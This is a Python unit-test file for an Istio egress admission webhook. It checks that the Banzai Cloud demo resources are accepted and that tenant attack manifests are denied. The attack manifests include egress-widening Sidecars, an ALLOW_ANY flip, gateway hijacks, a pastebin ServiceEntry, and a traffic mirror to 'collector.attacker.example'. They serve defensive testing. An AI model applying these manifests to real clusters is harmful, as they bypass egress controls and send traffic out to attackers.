"""The Banzai Cloud egress demo, resource by resource, through the decision engine.

The resources below restate the demo repository (istio-external-demo) in short form: the
namespace default-deny Sidecar, the per-service Gateways, ServiceEntries and VirtualServices in
``external``, the per-app Sidecars and VirtualServices in ``test-app``.  Under
``policies/banzai-demo.yaml`` every one of them must pass, and what a compromised tenant in
``test-app`` would try next must not.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml

from webhook.core.decisions import Decision
from webhook.core.engine import decide
from webhook.core.policy import Policy
from webhook.core.policy_parsing import parse_policy
from webhook.core.reviews import Operation, review_of_manifest

pytestmark = pytest.mark.unit

POLICIES = Path(__file__).resolve().parents[2] / "policies"

BANZAI_RESOURCES = """
apiVersion: networking.istio.io/v1beta1
kind: Sidecar
metadata: {name: test-app-restrict, namespace: test-app}
spec:
  egress:
  - hosts: ["./*"]
  outboundTrafficPolicy: {mode: REGISTRY_ONLY}
---
apiVersion: networking.istio.io/v1alpha3
kind: Gateway
metadata: {name: egress-httpbin, namespace: external}
spec:
  selector: {gateway-name: egress-httpbin, gateway-type: egress}
  servers:
  - port: {number: 80, name: https, protocol: HTTPS}
    hosts: ["*"]
    tls: {mode: ISTIO_MUTUAL}
  - port: {number: 443, name: tls, protocol: TLS}
    hosts: ["*"]
    tls: {mode: ISTIO_MUTUAL}
---
apiVersion: networking.istio.io/v1alpha3
kind: Gateway
metadata: {name: egress-github, namespace: external}
spec:
  selector: {gateway-name: egress-github, gateway-type: egress}
  servers:
  - port: {number: 80, name: https, protocol: HTTPS}
    hosts: ["*"]
    tls: {mode: ISTIO_MUTUAL}
  - port: {number: 443, name: tls, protocol: TLS}
    hosts: ["*"]
    tls: {mode: ISTIO_MUTUAL}
---
apiVersion: networking.istio.io/v1alpha3
kind: Gateway
metadata: {name: egress-google, namespace: external}
spec:
  selector: {gateway-name: egress-google, gateway-type: egress}
  servers:
  - port: {number: 80, name: https, protocol: HTTPS}
    hosts: ["*"]
    tls: {mode: ISTIO_MUTUAL}
  - port: {number: 443, name: tls, protocol: TLS}
    hosts: ["*"]
    tls: {mode: ISTIO_MUTUAL}
---
apiVersion: networking.istio.io/v1alpha3
kind: ServiceEntry
metadata: {name: httpbin-external, namespace: external}
spec:
  hosts: [httpbin.org, www.httpbin.org]
  ports: [{number: 80, name: http, protocol: HTTP}]
  resolution: DNS
  location: MESH_EXTERNAL
  exportTo: ["."]
---
apiVersion: networking.istio.io/v1alpha3
kind: VirtualService
metadata: {name: httpbin-egress, namespace: external}
spec:
  hosts: [httpbin.org, www.httpbin.org]
  gateways: [external/egress-httpbin]
  http:
  - match: [{gateways: [external/egress-httpbin], port: 80}]
    route: [{destination: {host: httpbin.org, port: {number: 80}}}]
---
apiVersion: networking.istio.io/v1alpha3
kind: ServiceEntry
metadata: {name: github-external, namespace: external}
spec:
  hosts: [github.com, www.github.com]
  ports: [{number: 80, name: http, protocol: HTTP}]
  resolution: DNS
  location: MESH_EXTERNAL
  exportTo: ["."]
---
apiVersion: networking.istio.io/v1alpha3
kind: VirtualService
metadata: {name: github-egress, namespace: external}
spec:
  hosts: [github.com, www.github.com]
  gateways: [external/egress-github]
  http:
  - match: [{gateways: [external/egress-github], port: 80}]
    route: [{destination: {host: github.com, port: {number: 80}}}]
---
apiVersion: networking.istio.io/v1alpha3
kind: ServiceEntry
metadata: {name: google-external, namespace: external}
spec:
  hosts: [google.com, www.google.com]
  ports:
  - {number: 80, name: http, protocol: HTTP}
  - {number: 443, name: tls, protocol: TLS}
  resolution: DNS
  location: MESH_EXTERNAL
  exportTo: ["*"]
---
apiVersion: networking.istio.io/v1alpha3
kind: VirtualService
metadata: {name: google-egress, namespace: external}
spec:
  hosts: [google.com, www.google.com]
  gateways: [external/egress-google]
  http:
  - match: [{gateways: [external/egress-google], port: 80}]
    route: [{destination: {host: google.com, port: {number: 80}}}]
  tcp:
  - match: [{gateways: [external/egress-google], port: 443}]
    route: [{destination: {host: google.com, port: {number: 443}}}]
---
apiVersion: networking.istio.io/v1beta1
kind: Sidecar
metadata: {name: app-a-to-external-services, namespace: test-app}
spec:
  egress:
  - hosts: ["./*", external/httpbin.org, external/github.com]
  workloadSelector: {labels: {k8s-app: app-a}}
  outboundTrafficPolicy: {mode: REGISTRY_ONLY}
---
apiVersion: networking.istio.io/v1alpha3
kind: VirtualService
metadata: {name: app-a-to-httpbin, namespace: test-app}
spec:
  hosts: [httpbin.org, www.httpbin.org]
  http:
  - match: [{port: 80, sourceLabels: {k8s-app: app-a}}]
    route: [{destination: {host: egress-httpbin.external.svc.cluster.local, port: {number: 80}}}]
  tls:
  - match: [{port: 443, sniHosts: [httpbin.org], sourceLabels: {k8s-app: app-a}}]
    route: [{destination: {host: egress-httpbin.external.svc.cluster.local, port: {number: 443}}}]
---
apiVersion: networking.istio.io/v1alpha3
kind: VirtualService
metadata: {name: app-a-to-github, namespace: test-app}
spec:
  hosts: [github.com, www.github.com]
  http:
  - match: [{port: 80, sourceLabels: {k8s-app: app-a}}]
    route: [{destination: {host: egress-github.external.svc.cluster.local, port: {number: 80}}}]
  tls:
  - match: [{port: 443, sniHosts: [github.com], sourceLabels: {k8s-app: app-a}}]
    route: [{destination: {host: egress-github.external.svc.cluster.local, port: {number: 443}}}]
---
apiVersion: networking.istio.io/v1beta1
kind: Sidecar
metadata: {name: app-b-to-external-services, namespace: test-app}
spec:
  egress:
  - hosts: ["./*", external/google.com]
  workloadSelector: {labels: {k8s-app: app-b}}
  outboundTrafficPolicy: {mode: REGISTRY_ONLY}
---
apiVersion: networking.istio.io/v1alpha3
kind: VirtualService
metadata: {name: app-b-to-google, namespace: test-app}
spec:
  hosts: [google.com, www.google.com]
  http:
  - match: [{port: 80, sourceLabels: {k8s-app: app-b}}]
    route: [{destination: {host: egress-google.external.svc.cluster.local, port: {number: 80}}}]
  tls:
  - match: [{port: 443, sniHosts: [google.com], sourceLabels: {k8s-app: app-b}}]
    route: [{destination: {host: egress-google.external.svc.cluster.local, port: {number: 443}}}]
---
apiVersion: networking.istio.io/v1alpha3
kind: ServiceEntry
metadata: {name: httpbin-local, namespace: default}
spec:
  hosts: [httpbin.external.svc.cluster.local]
  ports: [{number: 80, name: http, protocol: HTTP}]
  resolution: DNS
  location: MESH_EXTERNAL
"""


@pytest.fixture(scope="module")
def policy() -> Policy:
    return parse_policy((POLICIES / "banzai-demo.yaml").read_text())


def judge(manifest: dict[str, Any], policy: Policy, operation: Operation = "CREATE") -> Decision:
    return decide(review_of_manifest(manifest, operation=operation), policy)


def docs(text: str) -> list[dict[str, Any]]:
    return [d for d in yaml.safe_load_all(text) if d]


RESOURCES = docs(BANZAI_RESOURCES)


@pytest.mark.parametrize(
    "manifest",
    RESOURCES,
    ids=[f"{d['kind']}-{d['metadata']['namespace']}-{d['metadata']['name']}" for d in RESOURCES],
)
def test_every_banzai_resource_is_allowed(manifest: dict[str, Any], policy: Policy) -> None:
    decision = judge(manifest, policy)
    assert decision.allowed, decision.reason
    assert not decision.audited


@pytest.mark.parametrize(
    "manifest",
    [d for d in RESOURCES if d["kind"] != "Sidecar" or "workloadSelector" in d["spec"]],
    ids=lambda d: f"{d['kind']}-{d['metadata']['name']}",
)
def test_banzai_resources_may_be_deleted(manifest: dict[str, Any], policy: Policy) -> None:
    assert judge(manifest, policy, "DELETE").allowed


def test_deleting_the_namespace_default_deny_sidecar_is_denied(policy: Policy) -> None:
    decision = judge(RESOURCES[0], policy, "DELETE")
    assert not decision.allowed
    assert "test-app" in decision.reason


ATTACKS = {
    "app-b imports httpbin": """
apiVersion: networking.istio.io/v1beta1
kind: Sidecar
metadata: {name: app-b-wider, namespace: test-app}
spec:
  egress: [{hosts: ["./*", external/google.com, external/httpbin.org]}]
  workloadSelector: {labels: {k8s-app: app-b}}
  outboundTrafficPolicy: {mode: REGISTRY_ONLY}
""",
    "namespace sidecar imports everything of external": """
apiVersion: networking.istio.io/v1beta1
kind: Sidecar
metadata: {name: wide, namespace: test-app}
spec:
  egress: [{hosts: ["./*", "external/*"]}]
  workloadSelector: {labels: {k8s-app: app-c}}
  outboundTrafficPolicy: {mode: REGISTRY_ONLY}
""",
    "app-a sidecar flips to ALLOW_ANY": """
apiVersion: networking.istio.io/v1beta1
kind: Sidecar
metadata: {name: app-a-to-external-services, namespace: test-app}
spec:
  egress: [{hosts: ["./*", external/httpbin.org]}]
  workloadSelector: {labels: {k8s-app: app-a}}
  outboundTrafficPolicy: {mode: ALLOW_ANY}
""",
    "selector sidecar with only ingress reopens */*": """
apiVersion: networking.istio.io/v1beta1
kind: Sidecar
metadata: {name: ingress-only, namespace: test-app}
spec:
  workloadSelector: {labels: {k8s-app: app-b}}
  ingress: [{port: {number: 8080, protocol: HTTP, name: http}, defaultEndpoint: "127.0.0.1:8080"}]
  outboundTrafficPolicy: {mode: REGISTRY_ONLY}
""",
    "tenant ServiceEntry for httpbin": """
apiVersion: networking.istio.io/v1
kind: ServiceEntry
metadata: {name: my-httpbin, namespace: test-app}
spec:
  hosts: [httpbin.org]
  ports: [{number: 443, name: tls, protocol: TLS}]
  resolution: DNS
  exportTo: ["."]
""",
    "internal-looking ServiceEntry backed by an Internet address": """
apiVersion: networking.istio.io/v1
kind: ServiceEntry
metadata: {name: payments, namespace: test-app}
spec:
  hosts: [payments.test-app.svc.cluster.local]
  ports: [{number: 443, name: tls, protocol: TLS}]
  resolution: STATIC
  endpoints: [{address: 203.0.113.7}]
""",
    "app-b routes httpbin through the httpbin gateway": """
apiVersion: networking.istio.io/v1
kind: VirtualService
metadata: {name: app-b-to-httpbin, namespace: test-app}
spec:
  hosts: [httpbin.org]
  http:
  - match: [{sourceLabels: {k8s-app: app-b}}]
    route: [{destination: {host: egress-httpbin.external.svc.cluster.local}}]
""",
    "mirror to an outside host": """
apiVersion: networking.istio.io/v1
kind: VirtualService
metadata: {name: mirror, namespace: test-app}
spec:
  hosts: [github.com]
  http:
  - match: [{sourceLabels: {k8s-app: app-a}}]
    route: [{destination: {host: egress-github.external.svc.cluster.local}}]
    mirror: {host: collector.attacker.example}
""",
    "tenant VS programs the egress gateway": """
apiVersion: networking.istio.io/v1
kind: VirtualService
metadata: {name: hijack-gateway, namespace: test-app}
spec:
  hosts: [httpbin.org]
  gateways: [external/egress-httpbin]
  http: [{route: [{destination: {host: httpbin.org}}]}]
""",
    "tenant Gateway selects the httpbin egress pods": """
apiVersion: networking.istio.io/v1
kind: Gateway
metadata: {name: sneaky, namespace: test-app}
spec:
  selector: {gateway-name: egress-httpbin}
  servers: [{port: {number: 443, name: tls, protocol: TLS}, hosts: ["*"], tls: {mode: PASSTHROUGH}}]
""",
    "ServiceEntry in external for an unlisted host": """
apiVersion: networking.istio.io/v1
kind: ServiceEntry
metadata: {name: pastebin, namespace: external}
spec:
  hosts: [pastebin.com]
  ports: [{number: 443, name: tls, protocol: TLS}]
  resolution: DNS
""",
    "egress VS forwards httpbin gateway traffic to google": """
apiVersion: networking.istio.io/v1
kind: VirtualService
metadata: {name: cross, namespace: external}
spec:
  hosts: [httpbin.org]
  gateways: [external/egress-httpbin]
  http:
  - match: [{gateways: [external/egress-httpbin]}]
    route: [{destination: {host: google.com}}]
""",
    "EnvoyFilter in test-app": """
apiVersion: networking.istio.io/v1alpha3
kind: EnvoyFilter
metadata: {name: cluster, namespace: test-app}
spec: {configPatches: []}
""",
}


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_tenant_attacks_on_the_banzai_setup_are_denied(text: str, policy: Policy) -> None:
    decision = judge(yaml.safe_load(text), policy)
    assert not decision.allowed
    assert decision.violations


def test_app_b_import_of_httpbin_names_what_app_b_may_reach(policy: Policy) -> None:
    decision = judge(yaml.safe_load(ATTACKS["app-b imports httpbin"]), policy)
    (violation,) = decision.violations
    assert violation.field == "spec.egress[0].hosts[2]"
    assert "httpbin" in violation.message
    assert "k8s-app=app-b" in violation.message
    assert "google (google.com, www.google.com)" in violation.message


def test_tenant_service_entry_denial_explains_the_gateway_bypass(policy: Policy) -> None:
    decision = judge(yaml.safe_load(ATTACKS["tenant ServiceEntry for httpbin"]), policy)
    message = decision.violations[0].message
    assert "httpbin.org" in message
    assert "identity" in message
    assert "egress-httpbin.external.svc.cluster.local" in message
